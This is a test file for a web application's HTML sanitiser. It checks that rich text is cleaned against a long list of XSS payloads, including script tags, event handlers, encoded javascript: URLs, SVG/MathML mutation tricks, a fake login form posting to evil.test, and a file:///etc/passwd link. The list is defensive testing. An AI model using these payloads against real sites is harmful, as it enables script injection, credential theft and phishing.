import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanRichText } from '../../api/rich-text/clean.ts';
import { cleanInTurn } from '../../api/rich-text/cleaner.ts';
import { richTextMarkup } from '../../src/model/limits.ts';

/** Known ways to inject scripts, requests or misleading styles through HTML. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.webp" onerror="alert(1)" onload=alert(1)>',
  '<img src="/media/../api/dashboard/logout">',
  '<img src="//evil.test/x.png">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.test/x 1x" src="/media/a.webp">',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<image src="https://evil.test/x" onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test/">x</a>',
  '<a href="/\\evil.test/">x</a>',
  '<a href="/\t/evil.test/">x</a>',
  '<a href="https://ok.test" ping="https://evil.test" download onclick=alert(1)>x</a>',
  '<a href="https://ok.test" target="top" style="position:fixed;inset:0">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test"></object>',
  '<embed src="https://evil.test">',
  '<applet code=x></applet>',
  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-color:url(https://evil.test)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;top:0;z-index:99999">x</p>',
  '<p style="font-family:x;behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="font-family:\'x\\27;background:url(https://evil.test)\'">x</p>',
  '<p style="text-align:center;width:expression(alert(1))">x</p>',
  '<p id="content" name="forms" class="toast">x</p>',
  '<a name="getElementById" id="location">x</a>',
  '<p onclick=alert(1) onmouseover="alert(1)" ONFOCUS=alert(1) tabindex=1 contenteditable>x</p>',
  '<p dir="javascript:alert(1)">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html><head><title></title></head><frameset onload=alert(1)></frameset>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<p\u0000onclick=alert(1)>x</p>',
  '<img/src="/media/a.webp"/onerror=alert(1)>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
  '<slot name=x onslotchange=alert(1)></slot>',
  '<code class="language-js evil"><b onclick=alert(1)>x</b></code>',
  '<ol start="1;alert(1)"><li value="javascript:alert(1)">x</li></ol>',
  '<plaintext><script>alert(1)</script>',
  '<div><p><a href="https://ok.test"><a href=javascript:alert(1)>x</a></a></p>',
];

/** Tags and attributes that cleaned HTML may contain. Everything else is reported. */
const safe =
  /^<(?:\/(?:p|h[1-6]|blockquote|pre|ul|ol|li|table|thead|tbody|tfoot|tr|td|th|strong|em|u|s|code|span|mark|sub|sup|a)|(?:p|h[1-6]|br|hr|blockquote|pre|ul|ol|li|table|thead|tbody|tfoot|tr|td|th|strong|em|u|s|code|span|mark|sub|sup|a|img)(?: (?:dir="(?:ltr|rtl|auto)"|style="(?:(?:color|background-color|text-align|font-family):[^;:()\\]*(?:rgba?\([\d, .]+\))?;?)+"|href="(?:https?:\/\/|mailto:|tel:|\/(?![/\\]))[^"]*"|rel="noopener noreferrer"|target="_blank"|src="\/media\/[A-Za-z0-9][A-Za-z0-9._-]*"|alt="[^"]*"|width="\d+"|height="\d+"|start="\d+"|(?:col|row)span="[1-9]\d?"|class="language-[\w+#-]+"))*(?: \/)?)>$/;

function findings(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !safe.test(tag));
}

describe('a rich text on its way in', () => {
  it.each(attacks)('loses what is dangerous in %j', (attack) => {
    const cleaned = cleanRichText(`<p>before</p>${attack}`) ?? '';
    expect(findings(cleaned)).toEqual([]);
    expect(cleaned).toContain('before');
    expect(cleaned.replace(/&[a-z]+;/g, '')).not.toMatch(/<[^>]*(javascript|vbscript|data:|expression|evil\.test)/i);
    expect(cleanRichText(cleaned)).toBe(cleaned);
  });

  const kept = [
    '<p>Plain words, <strong>bold</strong>, <em>italic</em>, <u>underlined</u>, <s>struck</s></p>',
    '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>',
    '<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul><ol start="3"><li><p>c</p></li></ol>',
    '<blockquote><p>said</p></blockquote><hr /><p>a<br />b</p>',
    '<pre><code class="language-js">if (a &lt; b &amp;&amp; c) {}</code></pre><p><code>x</code></p>',
    '<p style="text-align:center">middle</p><h2 style="text-align:right">right</h2>',
    '<p><span style="color:#e03131">red</span><span style="color:rgb(1, 2, 3)">rgb</span></p>',
    '<p><span style="background-color:rgba(255, 236, 153, 0.5)">marked</span><mark>m</mark></p>',
    '<p><span style="font-family:Cairo, &quot;Readex Pro&quot;, serif">font</span></p>',
    '<p dir="rtl">عربي</p><p dir="ltr">English</p><p dir="auto">مختلط mixed</p>',
    '<p><a href="https://example.org/a?b=1&amp;c=2#d" rel="noopener noreferrer" target="_blank">out</a></p>',
    '<p><a href="/blog/12">in</a><a href="mailto:info@school.test">mail</a><a href="tel:+249912345678">call</a></p>',
    '<img src="/media/0123456789abcdef0123-1600.webp" alt="a picture" width="640" height="480" />',
    '<p>H<sub>2</sub>O, x<sup>2</sup></p>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; as words</p>',
    '<table><tbody><tr><th colspan="2"><p>a</p></th></tr><tr><td rowspan="3"><p>b</p></td><td><p>c</p></td></tr></tbody></table>',
  ];
  it.each(kept)('keeps what the editor makes: %s', (html) => {
    expect(cleanRichText(html)).toBe(html);
  });

  it('writes old names of the same things the new way', () => {
    expect(cleanRichText('<p><b>a</b><i>b</i><del>c</del><strike>d</strike></p>')).toBe(
      '<p><strong>a</strong><em>b</em><s>c</s><s>d</s></p>',
    );
  });

  it('keeps of a style what the editor makes, whatever stands beside it', () => {
    const style = (value: string) => cleanRichText(`<p style='${value}'>x</p>`)?.slice(2, -6);
    expect(style('mso-x: 1pt; COLOR: red; ;broken; font-family: "A B" , serif; text-align:justify;')).toBe(
      ' style="color:red;font-family:&quot;A B&quot; , serif;text-align:justify"',
    );
    expect(style('color: red ! important; background-color: #fff!important')).toBe(
      ' style="color:red !important;background-color:#fff !important"',
    );
    expect(style('font-family: "A; color: red')).toBe(' style="color:red"');
    expect(style('font-family: "A;B"; color: rgb(1;2,3); constructor: red')).toBe('');
  });

  it('keeps of a table its cells and how far they reach, within reason', () => {
    const cell = (attributes: string) => cleanRichText(`<table border="1"><tr><td ${attributes}>x</td></tr></table>`);
    expect(cell('colspan=3 width="9000" bgcolor=red')).toBe('<table><tr><td colspan="3">x</td></tr></table>');
    for (const span of ['0', '-1', '100', '65534', '1e2', 'x']) expect(cell(`rowspan="${span}"`)).not.toContain('span');
  });

  it('leaves out a picture that is none of ours, and nothing else', () => {
    expect(cleanRichText('a<img src=x alt="b">c<img>d<img alt="src=" src="/media/e.webp">f')).toBe(
      'acd<img src="/media/e.webp" alt="src=" />f',
    );
  });

  const tags = [
    'p',
    'h2',
    'b',
    'em',
    'del',
    'span',
    'mark',
    'a',
    'img',
    'br',
    'ul',
    'li',
    'pre',
    'code',
    'table',
    'tr',
    'td',
  ];
  const others = [
    'div',
    'caption',
    'col',
    'script',
    'style',
    'svg',
    'title',
    'noscript',
    'option',
    'font',
    'iframe',
    'x-y',
  ];
  const attributes = [
    ...[
      'style="color:red"',
      'style="color: #fff; x: y"',
      `style="font-family:'A B', serif"`,
      'style',
      'dir=rtl',
      'dir',
    ],
    ...['href="https://a.b/c?d=e&f=g"', 'href=/x', 'href="javascript:x"', 'src="/media/a.webp"', 'src=x', 'alt="<b>"'],
    ...['class="x language-a"', 'width=3', 'start=4', 'onclick=x'],
  ];
  const words = ['a', 'b & c', '&lt;b&gt;', '&nbsp;', '>', '"', 'عربي', '😀', '&#x41;', '&copy', '\n'];
  const textsOf = (names: readonly string[], loose: readonly string[] = []) =>
    fc.letrec<{ text: string; piece: string; element: string }>((tie) => ({
      text: fc.array(tie('piece'), { maxLength: 4 }).map((parts) => parts.join('')),
      piece: fc.oneof({ maxDepth: 5 }, fc.constantFrom(...words, ...loose), tie('element')),
      element: fc
        .tuple(
          fc.constantFrom(...names),
          fc.array(fc.constantFrom(...attributes, ...loose), { maxLength: 3 }),
          tie('text'),
          fc.boolean(),
        )
        .map(([tag, attrs, inner, closed]) => `<${[tag, ...attrs].join(' ')}>${inner}${closed ? `</${tag}>` : ''}`),
    })).text;
  const cleaned = (html: string) => cleanRichText(html) ?? '';

  it('is safe and balanced, whatever it was', () => {
    fc.assert(
      fc.property(textsOf([...tags, ...others], ['<', '"']), (html) => {
        const once = cleaned(html);
        expect(findings(once)).toEqual([]);
        const count = (pattern: RegExp) => once.match(pattern)?.length ?? 0;
        expect(count(/<[a-z][^<>]*[^/]>|<[a-z]>/g)).toBe(count(/<\/[a-z]/g));
        // Compares the second and the third run: the first run may remove the text between two tags that must not be
        // nested, and the second run then separates these tags.
        expect(cleaned(cleaned(once))).toBe(cleaned(once));
      }),
      { numRuns: 500 },
    );
  });

  it('stays as it is when it comes again, as the editor writes it', () => {
    fc.assert(
      fc.property(textsOf(tags), (html) => {
        expect(cleaned(cleaned(html))).toBe(cleaned(html));
      }),
      { numRuns: 500 },
    );
  });

  it('is not looked at when it has more tags, or deeper ones, than a person writes', () => {
    const { tags: most, depth } = richTextMarkup;
    expect(cleanRichText('<br>'.repeat(most))).toBe('<br />'.repeat(most));
    expect(cleanRichText('<br>'.repeat(most + 1))).toBeNull();
    expect(cleanRichText(`${'<i>'.repeat(depth)}x`)).toContain('x');
    expect(cleanRichText(`${'<i>'.repeat(depth + 1)}x`)).toBeNull();
  });

  it('is cleaned in a turn of its own, and one that fails holds up no other', async () => {
    const done: string[] = [];
    const note = (name: string) => () => done.push(name);
    const broken: unknown = null;
    const first = cleanInTurn('<p>a</p>').then(note('first'));
    const faulty = cleanInTurn(broken as string).catch(note('faulty'));
    const last = cleanInTurn('<p>b</p>').then(note('last'));
    await first;
    await new Promise<void>((resolve) => setImmediate(resolve));
    note('other work')();
    await Promise.all([faulty, last]);
    expect(done).toEqual(['first', 'faulty', 'other work', 'last']);
  });
});
